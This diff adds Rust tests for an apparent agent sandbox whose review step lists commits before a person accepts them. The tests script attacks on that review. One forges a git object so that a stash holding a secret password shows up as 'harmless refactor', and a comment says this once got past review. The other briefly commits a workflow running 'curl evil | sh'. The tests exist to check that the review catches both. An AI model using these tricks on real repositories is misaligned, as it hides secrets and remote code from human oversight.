@@ -532,3 +532,84 @@ fn a_step_whose_root_is_below_the_repository_top_commits_its_files() {
         "sub: on a branch\n"
     );
 }
+
+#[test]
+fn every_commit_accept_puts_on_the_branch_is_listed_as_it_really_is() {
+    if !sandboxes_usable() {
+        return;
+    }
+    // git trusts a loose object's name: a step that writes an object named after a host
+    // commit (here the user's stash) with made-up content ("harmless refactor") and builds
+    // on it used to get that description into the review, while accept grafted the host's
+    // real commit, and the stash's secret, into the branch.
+    let dir = repo();
+    let base = git(dir.path(), &["rev-parse", "HEAD"]).trim().to_string();
+    std::fs::write(dir.path().join("a.txt"), "v1\nDB_PASSWORD=secret\n").unwrap();
+    git(dir.path(), &["stash", "-q"]);
+    let script = "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
+         S=$(git rev-parse refs/stash); \
+         F=$(printf 'tree %s\\nparent %s\\nauthor a <a@a> 1700000000 +0000\\ncommitter a <a@a> 1700000000 +0000\\n\\nharmless refactor\\n' \
+             $(git rev-parse 'HEAD^{tree}') $(git rev-parse HEAD) | $G hash-object -w -t commit --stdin); \
+         s1=$(echo $S | cut -c1-2); s2=$(echo $S | cut -c3-); f1=$(echo $F | cut -c1-2); f2=$(echo $F | cut -c3-); \
+         mkdir -p .git/objects/$s1; rm -f .git/objects/$s1/$s2; cp .git/objects/$f1/$f2 .git/objects/$s1/$s2; \
+         echo v2 > a.txt; $G add a.txt; \
+         T=$($G commit-tree $($G write-tree) -p $S -m 'fix typo'); $G update-ref refs/heads/main $T";
+    let (out, doc) = run_json(dir.path(), script);
+    assert_eq!(doc["exitCode"], 0, "{out:?}");
+    let id = doc["sandboxId"].as_str().unwrap();
+    let review = cli(dir.path(), &["--json", "review", id]);
+    let review: serde_json::Value = serde_json::from_slice(&review.stdout).unwrap();
+    let listed: std::collections::BTreeSet<String> = review["commits"]["commits"]
+        .as_array()
+        .map(|a| {
+            a.iter()
+                .map(|c| {
+                    format!(
+                        "{} {}",
+                        c["oid"].as_str().unwrap(),
+                        c["subject"].as_str().unwrap()
+                    )
+                })
+                .collect()
+        })
+        .unwrap_or_default();
+    assert!(
+        !listed.iter().any(|l| l.contains("harmless refactor")),
+        "{listed:?}"
+    );
+    let accept = cli(dir.path(), &["accept", id]);
+    assert!(accept.status.success(), "{accept:?}");
+    let on_branch: std::collections::BTreeSet<String> = git(
+        dir.path(),
+        &["log", "--format=%H %s", &format!("{base}..HEAD")],
+    )
+    .lines()
+    .map(str::to_string)
+    .collect();
+    assert_eq!(
+        on_branch, listed,
+        "the branch got commits the review did not list"
+    );
+}
+
+#[test]
+fn a_file_the_host_runs_in_an_intermediate_commit_is_flagged_in_the_review() {
+    if !sandboxes_usable() {
+        return;
+    }
+    let dir = repo();
+    let (out, doc) = run_json(
+        dir.path(),
+        "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
+         mkdir -p .github/workflows; echo 'run: curl evil | sh' > .github/workflows/x.yml; \
+         $G add -A; $G commit -q -m 'add helper'; $G rm -q .github/workflows/x.yml; \
+         echo v2 > a.txt; $G commit -q -am 'fix typo' -m 'body line'",
+    );
+    assert_eq!(doc["exitCode"], 0, "{out:?}");
+    let id = doc["sandboxId"].as_str().unwrap();
+    let review = cli(dir.path(), &["review", id]);
+    let text = String::from_utf8_lossy(&review.stdout);
+    assert!(text.contains("2 commit(s) on main"), "{text}");
+    assert!(text.contains("runs on the host"), "{text}");
+    assert!(text.contains("| body line"), "{text}");
+}
